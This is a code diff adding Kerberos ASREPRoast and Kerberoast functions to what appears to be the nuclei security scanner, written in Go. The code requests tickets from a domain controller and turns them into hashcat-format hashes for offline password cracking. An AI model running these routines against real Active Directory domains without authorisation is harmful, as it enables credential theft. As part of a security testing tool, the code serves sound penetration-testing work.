@@ -0,0 +1,94 @@
+package kerberos
+
+import (
+	"encoding/hex"
+	"fmt"
+
+	"github.com/projectdiscovery/nuclei/v3/pkg/protocols/common/protocolstate"
+	kclient "github.com/ropnop/gokrb5/v8/client"
+	"github.com/ropnop/gokrb5/v8/iana/errorcode"
+	"github.com/ropnop/gokrb5/v8/iana/etypeID"
+	"github.com/ropnop/gokrb5/v8/messages"
+	"github.com/ropnop/gokrb5/v8/types"
+)
+
+// ASREPRoast requests an AS-REP without pre-authentication for each of
+// the usernames and returns the hashes of the accounts not requiring
+// pre-authentication in the hashcat format.
+//
+// The unknown users and the users requiring pre-authentication are skipped.
+func (c *KerberosClient) ASREPRoast(domain, controller string, usernames []string) ([]string, error) {
+	hashes := []string{}
+	for _, username := range usernames {
+		resp, err := c.EnumerateUser(domain, controller, username)
+		if err != nil {
+			return hashes, err
+		}
+		if resp.ASREPHash != "" {
+			hashes = append(hashes, resp.ASREPHash)
+		}
+	}
+	return hashes, nil
+}
+
+// Kerberoast logs in with the username and password, requests a service
+// ticket for each of the SPNs and returns their hashes in the hashcat format.
+//
+// The RC4 tickets are requested first, the SPN is used as the username of
+// the hashes since the accounts of the services are unknown.
+// The unknown SPNs are skipped.
+func (c *KerberosClient) Kerberoast(domain, controller, username, password string, spns []string) ([]string, error) {
+	hashes := []string{}
+	if !protocolstate.IsHostAllowed(domain) {
+		// host is not valid according to network policy
+		return hashes, protocolstate.ErrHostDenied.Msgf(domain)
+	}
+
+	opts, err := newKerbrosEnumUserOpts(domain, controller)
+	if err != nil {
+		return hashes, err
+	}
+	cl := kclient.NewWithPassword(username, opts.realm, password, opts.config, kclient.DisablePAFXFAST(true))
+	defer cl.Destroy()
+	if err := cl.Login(); err != nil {
+		return hashes, err
+	}
+	for _, spn := range spns {
+		ticket, _, err := cl.GetServiceTicket(spn)
+		if err != nil {
+			if e, ok := err.(messages.KRBError); ok && e.ErrorCode == errorcode.KDC_ERR_S_PRINCIPAL_UNKNOWN {
+				continue
+			}
+			return hashes, err
+		}
+		hashes = append(hashes, tgsToHashcat(ticket, spn))
+	}
+	return hashes, nil
+}
+
+// tgsToHashcat returns the hash of a service ticket in the hashcat format
+func tgsToHashcat(ticket messages.Ticket, spn string) string {
+	checksum, data := splitCipher(ticket.EncPart)
+	if ticket.EncPart.EType == etypeID.RC4_HMAC {
+		return fmt.Sprintf("$krb5tgs$%d$*%s$%s$%s*$%s$%s",
+			ticket.EncPart.EType, spn, ticket.Realm, spn, checksum, data)
+	}
+	return fmt.Sprintf("$krb5tgs$%d$%s$%s$*%s*$%s$%s",
+		ticket.EncPart.EType, spn, ticket.Realm, spn, checksum, data)
+}
+
+// splitCipher returns the hex encoded checksum and data of the cipher, the
+// checksum is at the start of the RC4 ciphers and at the end of the AES ciphers
+func splitCipher(data types.EncryptedData) (string, string) {
+	cipher := data.Cipher
+	if data.EType == etypeID.RC4_HMAC {
+		if len(cipher) < 16 {
+			return "", hex.EncodeToString(cipher)
+		}
+		return hex.EncodeToString(cipher[:16]), hex.EncodeToString(cipher[16:])
+	}
+	if len(cipher) < 12 {
+		return "", hex.EncodeToString(cipher)
+	}
+	return hex.EncodeToString(cipher[len(cipher)-12:]), hex.EncodeToString(cipher[:len(cipher)-12])
+}